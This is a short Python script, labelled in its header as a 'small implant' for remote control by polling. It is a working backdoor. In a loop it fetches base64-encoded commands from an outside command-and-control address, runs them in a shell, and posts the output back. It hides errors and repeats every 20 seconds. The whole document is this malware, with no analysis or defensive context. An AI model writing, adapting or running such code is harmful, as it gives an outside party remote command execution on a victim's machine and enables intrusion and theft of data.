# class: remote control by polling; style: small implant
import base64, os, platform, subprocess, time, urllib.request, uuid
ID = uuid.getnode()
C2 = "http://198.51.100.88/api"
while 1:
    try:
        t = urllib.request.urlopen(f"{C2}/task/{ID}?os={platform.system()}").read()
        if t:
            o = subprocess.getoutput(base64.b64decode(t).decode())
            urllib.request.urlopen(f"{C2}/result/{ID}", data=base64.b64encode(o.encode()))
    except Exception:
        pass
    time.sleep(20)
